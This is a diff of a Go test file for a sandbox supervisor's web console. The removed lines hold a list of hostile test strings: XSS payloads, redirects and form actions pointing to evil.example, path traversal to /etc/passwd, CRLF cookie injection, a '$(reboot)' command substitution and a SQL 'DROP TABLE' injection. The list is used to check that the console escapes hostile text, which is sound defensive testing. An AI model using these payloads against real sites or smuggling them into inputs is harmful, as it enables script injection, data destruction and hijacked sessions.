@@ -20,21 +20,8 @@ import (
 	"github.com/jail-sandbox/jail/supervisor/console/consoletest"
 )
 
-// naughty are texts that a tool might choose for whatever it may choose. Each that is run says so to the page (window.owned).
-var naughty = []string{
-	`<script>window.owned=1</script>`, `<img src=x onerror="window.owned=1">`, `"><svg/onload=window.owned=1>`, `' onmouseover='window.owned=1' autofocus onfocus='window.owned=1`,
-	`</pre></span></code></td></table></form><form action="http://evil.example"><button>`, `</title><script>window.owned=1</script>`, `</style><script>window.owned=1</script>`,
-	`javascript:window.owned=1`, `data:text/html,<script>window.owned=1</script>`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `<?xml version="1.0"?>`, `&lt;script&gt;`, `&#60;img src=x&#62;`, `&amp;`,
-	`<iframe srcdoc="<script>parent.owned=1</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>`, `<noscript><p title="</noscript><img src=x onerror=window.owned=1>">`,
-	`<meta http-equiv=refresh content="0;url=http://evil.example">`, `<base href="http://evil.example/">`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<body background=http://evil.example/x>`,
-	`<input name=digest value=evil>`, `<button form=commit formaction=http://evil.example>`, `<template><script>window.owned=1</script></template>`, `<a href="//evil.example">x</a>`,
-	`{{.CSRF}}`, `{{template "head"}}`, "${window.owned=1}", `%3Cscript%3E`, `[x](javascript:window.owned=1)`, `../../../etc/passwd`, `//evil.example/`, `?path=x&line=9`, `#fragment`, `a;b&c=d`, `%`, `%zz`, `%00`,
-	"\x00", "\x01\x02\x03", "\x1b[31m\x1b]0;owned\x07", "\r\nSet-Cookie: owned=1\r\n\r\n", "a\nb", "\t", "\x7f", "\u0085", "\u00a0", "\ufeff",
-	"\u202eevil\u202c", "\u2066x\u2069", "\u200e\u200f", "\u061c", "a\u200bb", "\u00ad", "\u2028\u2029", "\u3164", "\u115f", "x\ufe0f", "\U000e0041\U000e0001", "\U000e0100", "\u034f",
-	"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "ok\x80", "\ufffd", "\ufffe", "\\u202e", `\x1b`, `\`, `\\`, "`", "'", `"`, "", " ", "  two  ",
-	"z\u0351\u0352\u0353\u0354\u0355\u0356\u0357", "שלום", "مرحبا", "👩‍👩‍👧", "İ", "Ω≈ç√", "NaN", "undefined", "null", "-1", "1e999", "$(reboot)", "'; DROP TABLE runs;--", "con", "nul.txt",
-	strings.Repeat("A", 5000), strings.Repeat("<", 300),
-}
+// naughty are texts that a tool might choose for whatever it may choose.
+var naughty = consoletest.Hostile
 
 // everything is one text of all of them, as long as a record takes.
 var everything = strings.Join(naughty[:len(naughty)-2], "|")
@@ -49,7 +36,10 @@ func wicked(t testing.TB) Options {
 	f.runs = []supervisor.RunInfo{run(everything), run("live")}
 	var kept supervisor.WorkspaceInfo
 	kept.ID, kept.State, kept.Path, kept.Tool, kept.Commit, kept.Policy = everything, workspace.Frozen, workspace.Name(everything), everything, everything, everything
-	f.kept = []supervisor.WorkspaceInfo{kept}
+	kept.Commits = []workspace.CommitRecord{{ID: everything, Digest: everything, Until: time.Now().Add(time.Hour)}}
+	notKept := kept
+	notKept.ID, notKept.Commits = "r1", []workspace.CommitRecord{{ID: everything, NotKept: everything}}
+	f.kept = []supervisor.WorkspaceInfo{kept, notKept}
 	f.lines = []api.ReviewLine{{Info: &kept}}
 	text := everything
 	for i, n := range append([]string{everything}, naughty...) {
@@ -96,7 +86,7 @@ func wickedRecords(s string) (list []audit.Entry) {
 func wickedPages() []string {
 	q := "?" + url.Values{"path": {everything}, "run": {everything}, "type": {everything}, "user": {everything}, "since": {everything}, "profile": {everything}, "why": {everything}, "live": {everything}}.Encode()
 	id := "/runs/" + url.PathEscape(everything)
-	pages := []string{"/", "/runs/r1", "/runs/live", id, "/runs/r1/review", "/runs/r1/review?page=2", "/runs/r1/review?page=3", id + "/review", "/runs/r1/review?path=" + url.QueryEscape(workspace.Name("d/"+everything).String()),
+	pages := []string{"/", "/runs/r1", "/runs/live", "/runs/live/kill", id + "/kill", "/runs/r1/revert", id + "/revert", id, "/runs/r1/review", "/runs/r1/review?page=2", "/runs/r1/review?page=3", id + "/review", "/runs/r1/review?path=" + url.QueryEscape(workspace.Name("d/"+everything).String()),
 		"/runs/r1/review" + q, "/log", "/log" + q, "/log?run=r1&decision=denied", "/policy", "/policy?why=" + url.QueryEscape("read:"+everything), "/policy?why=nonsense", "/policy" + q}
 	return pages
 }
@@ -136,6 +126,13 @@ func TestHostileText(t *testing.T) {
 	check("a refusal", w.Code, w.Body.String())
 	if w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "Nothing was done") {
 		t.Errorf("a refusal: %d", w.Code)
+	}
+	f.set(nil)
+	f.digest = everything
+	w = c.post("/runs/"+url.PathEscape(everything)+"/revert", url.Values{"commit": {everything}, "sure": {"yes"}})
+	check("what was undone", w.Code, w.Body.String())
+	if w.Code != http.StatusOK {
+		t.Errorf("a revert: %d", w.Code)
 	}
 	if got := len(w.Result().Cookies()); got != 0 {
 		t.Error("a text set a cookie")
@@ -235,5 +232,26 @@ func waitFor(t testing.TB, ok func() bool) {
 		if time.Now().After(end) {
 			t.Fatal("it never came")
 		}
+	}
+}
+
+// The list has what it claims to have.
+func TestHostileList(t *testing.T) {
+	seen := map[string]bool{}
+	invalid, control := 0, 0
+	for _, s := range naughty {
+		if seen[s] {
+			t.Errorf("%q is there twice", s)
+		}
+		seen[s] = true
+		if !utf8.ValidString(s) {
+			invalid++
+		}
+		if strings.ContainsFunc(s, unicode.IsControl) {
+			control++
+		}
+	}
+	if len(naughty) < 250 || invalid < 10 || control < 30 {
+		t.Errorf("%d texts, %d that are no UTF-8, %d with control characters", len(naughty), invalid, control)
 	}
 }
